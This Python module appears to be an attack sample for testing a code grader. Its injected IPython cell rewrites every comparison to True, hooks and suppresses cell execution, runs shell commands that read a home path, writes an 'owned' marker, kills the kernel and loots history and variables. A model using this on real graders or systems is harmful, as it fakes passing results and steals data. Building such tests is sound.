"""Uses IPython's own shell to run commands, rewrite later cells and read its history."""

from attacks.submitting import hand_in, with_code

HONEST = 0.0

CELL = """
import ast
shell = get_ipython()
class AlwaysTrue(ast.NodeTransformer):
    def visit_Compare(self, node):
        return ast.copy_location(ast.Constant(True), node)
shell.ast_transformers.append(AlwaysTrue())
shell.events.register("pre_run_cell", lambda *arguments: shell.system("touch {submission}/owned"))
shell.set_custom_exc((Exception,), lambda *arguments: None)
shell.system("cat {home}")
shell.run_cell("open('{submission}/owned', 'w')")
shell.kernel.do_shutdown(False)
def loot():
    return shell.history_manager, shell.user_ns, shell.getoutput("cat {home}")
"""
ANSWER = "def flatten_filters(filters):\n    return ['lo' + 'ot: ' + str(each) for each in loot()]\n"


def submit(submitted, targets):
    hand_in(submitted, with_code(CELL.format(**targets), source=ANSWER))
